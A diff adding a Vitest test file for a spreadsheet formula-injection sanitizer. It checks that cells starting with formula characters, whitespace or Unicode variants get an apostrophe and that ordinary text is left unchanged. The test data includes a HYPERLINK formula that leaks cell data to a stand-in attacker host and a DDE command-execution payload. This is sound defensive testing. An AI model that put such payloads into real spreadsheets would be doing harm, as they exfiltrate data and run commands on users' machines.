@@ -1,0 +1,65 @@
+import { describe, expect, it } from "vitest";
+import { withoutFormula } from "./cell";
+
+describe("a cell that a spreadsheet would run gets an apostrophe before it", () => {
+  it.each([
+    "=1+1",
+    '=HYPERLINK("https://evil.example?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+44 20 7946 0000",
+    "+1",
+    "-5",
+    "-",
+    "=",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\tAna",
+    "\r=1",
+    "\n=1",
+    "\r\n=1",
+    " =1",
+    "   \t \n  =1",
+    "\u00A0=1",
+    "\u3000=1",
+    "\uFEFF=1",
+    "\0=1",
+    "\0\0 \0@x",
+    "\u2028=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠x",
+    " \0＝1",
+  ])("%j", (text) => {
+    expect(withoutFormula(text)).toBe(`'${text}`);
+  });
+});
+
+describe("any other stands as it is", () => {
+  it.each([
+    "",
+    "Ana Ribeiro",
+    "ana@example.com",
+    "A-1",
+    "1+1=2",
+    "(+44) 20 7946 0000",
+    "'=1",
+    '"=1"',
+    " Ana",
+    "a\n=1",
+    "🎓 = degree",
+    "–5",
+    "−5",
+    "•  list",
+    "يبدأ من اليمين",
+  ])("%j", (text) => {
+    expect(withoutFormula(text)).toBe(text);
+  });
+});
+
+it("a text of blanks without end is judged quickly", () => {
+  const blanks = " ".repeat(1_000_000);
+  const started = performance.now();
+  expect(withoutFormula(`${blanks}x`)).toBe(`${blanks}x`);
+  expect(performance.now() - started).toBeLessThan(1000);
+});
